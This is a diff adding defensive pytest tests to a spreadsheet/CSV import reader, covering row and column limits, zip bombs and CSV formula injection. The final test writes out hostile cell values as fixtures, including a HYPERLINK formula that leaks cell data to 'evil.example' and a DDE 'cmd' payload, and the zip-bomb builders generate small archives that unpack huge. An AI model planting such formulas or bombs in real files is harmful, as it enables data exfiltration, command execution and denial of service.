@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+import functools
 from collections.abc import Callable, Sequence
 from typing import Any
 
@@ -397,3 +398,168 @@ async def test_control_characters_are_refused_with_row_and_column(
         "(U+001B)" in res.error_lines("en")[1] and "control character" in res.error_lines("en")[1]
     )
     assert await count(session, Person, Person.external_id.like("S-%")) == 0
+
+
+# --------------------------------------------------------------------------- hostile files
+
+
+def _xlsx_with_sheet(write_rows: Callable[[Any], None], rows: int) -> bytes:
+    """A real workbook whose first sheet's rows are streamed in by ``write_rows(fh)`` (the
+    sheet's dimension says ``rows`` rows, as Excel writes it)."""
+    import io
+    import zipfile
+
+    base = xlsx_bytes([["Табельный номер", "Фамилия"], ["T-1", "x"]])
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(base)) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
+        for info in src.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                dst.writestr(info, src.read(info))
+                continue
+            head = src.read(info).partition(b"<sheetData>")[0]
+            head = head.replace(b'ref="A1:B2"', b'ref="A1:B%d"' % rows)
+            with dst.open(info.filename, "w") as fh:
+                fh.write(head + b"<sheetData>")
+                write_rows(fh)
+                fh.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+@functools.cache
+def million_row_xlsx() -> bytes:
+    """1,000,000 tiny rows under a header: 2.6 MB packed, 31 MB unpacked."""
+
+    def write(fh: Any) -> None:
+        fh.write(b'<row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>')
+        for start in range(2, 1_000_002, 10_000):
+            fh.write(
+                b"".join(b"<row><c><v>%d</v></c></row>" % n for n in range(start, start + 10_000))
+            )
+
+    return _xlsx_with_sheet(write, 1_000_001)
+
+
+def _counting(monkeypatch: pytest.MonkeyPatch, name: str) -> list[int]:
+    """Count the rows the reader's ``name`` generator hands out."""
+    from services.imports import reader
+
+    original = getattr(reader, name)
+    counted = [0]
+
+    def counting(data: bytes) -> Any:
+        for record in original(data):
+            counted[0] += 1
+            yield record
+
+    monkeypatch.setattr(reader, name, counting)
+    return counted
+
+
+async def test_a_million_row_xlsx_is_refused_at_the_limit(
+    session: AsyncSession, world: SchoolWorld, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import tracemalloc
+
+    from services.imports import reader
+
+    data = million_row_xlsx()
+    read = _counting(monkeypatch, "xlsx_records")
+    res = await import_file(session, world.actors["admin"], "staff", "big.xlsx", data)
+    assert [(e.row, e.code) for e in res.errors] == [(0, "import.error.too_many_rows")]
+    assert res.error_lines("ru") == ["Файл: в файле больше 20000 строк"]
+    # The header and the limit's rows, then the one row too many: nothing after it is read.
+    assert read == [1 + reader.MAX_ROWS + 1]
+    tracemalloc.start()
+    try:
+        with pytest.raises(reader.UnreadableFile):
+            reader.read("big.xlsx", data)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 32 * 1024 * 1024  # a million rows held would take hundreds of MB
+
+
+def test_a_long_csv_is_read_only_up_to_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    from services.imports import reader
+
+    data = ("ID;Фамилия\r\n" + "".join(f"T-{n};x\r\n" for n in range(300_000))).encode()
+    read = _counting(monkeypatch, "csv_records")
+    with pytest.raises(reader.UnreadableFile) as refused:
+        reader.read("big.csv", data)
+    assert refused.value.code == "import.error.too_many_rows"
+    assert read == [1 + reader.MAX_ROWS + 1]
+
+
+def test_rows_and_lines_too_wide_are_refused() -> None:
+    from services.imports import reader
+
+    wide = ";".join(["x"] * (reader.MAX_COLUMNS + 1))
+    with pytest.raises(reader.UnreadableFile) as refused:
+        reader.read("w.csv", f"ID;Фамилия\r\nT-1;x\r\n{wide}\r\n".encode())
+    assert (refused.value.code, refused.value.params["row"]) == ("import.error.too_many_columns", 3)
+    # Trailing empty cells (as spreadsheets export them) are no problem.
+    sheet = reader.read("w.csv", ("ID;Фамилия" + ";" * 500 + "\r\nT-1;x\r\n").encode())
+    assert sheet.header == ["ID", "Фамилия"] and sheet.rows == [(2, ["T-1", "x"])]
+    with pytest.raises(reader.UnreadableFile) as refused:
+        reader.read("l.csv", b"ID;x\r\n" + b";" * (reader.MAX_LINE_CHARS + 1))
+    assert (refused.value.code, refused.value.params["row"]) == ("import.error.line_too_long", 2)
+
+
+@pytest.mark.parametrize("bomb", ["ratio", "size", "entries"])
+def test_zip_bombs_are_refused_from_the_zip_directory(
+    monkeypatch: pytest.MonkeyPatch, bomb: str
+) -> None:
+    import io
+    import zipfile
+
+    import openpyxl
+
+    from services.imports import reader
+
+    if bomb == "entries":
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as archive:
+            for n in range(reader.MAX_ZIP_ENTRIES + 1):
+                archive.writestr(f"x/{n}.xml", b"")
+        data = out.getvalue()
+    else:
+        size = 8 * 1024 * 1024 if bomb == "ratio" else reader.MAX_UNPACKED_BYTES + 1
+
+        def write(fh: Any) -> None:
+            chunk = b" " * (1024 * 1024)
+            for _ in range(size // len(chunk)):
+                fh.write(chunk)
+            fh.write(b" " * (size % len(chunk)))
+
+        data = _xlsx_with_sheet(write, 2)
+    assert len(data) < 1024 * 1024
+
+    def unpacked(*args: Any, **kwargs: Any) -> None:
+        raise AssertionError("the bomb was opened")
+
+    monkeypatch.setattr(openpyxl, "load_workbook", unpacked)
+    with pytest.raises(reader.UnreadableFile) as refused:
+        reader.read("bomb.xlsx", data)
+    assert refused.value.code == "import.error.unpacked_too_big"
+
+
+def test_csv_cells_never_start_a_formula_and_read_back_as_typed() -> None:
+    from services.imports import reader
+    from services.sheet_cells import csv_cell
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+    for value, written in (
+        (evil, "'" + evil),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("+79990000002", "+79990000002"),
+        ("-5", "-5"),
+        ("Ива\x00нов", "Иванов"),
+    ):
+        assert csv_cell(value) == written
+        assert reader.cell_text(written) == written.removeprefix("'")
+    sheet = reader.read("t.csv", csv_bytes([["ID", "Фамилия"], ["S-1", csv_cell(evil)]]))
+    assert reader.cell_text(sheet.rows[0][1][1]) == evil
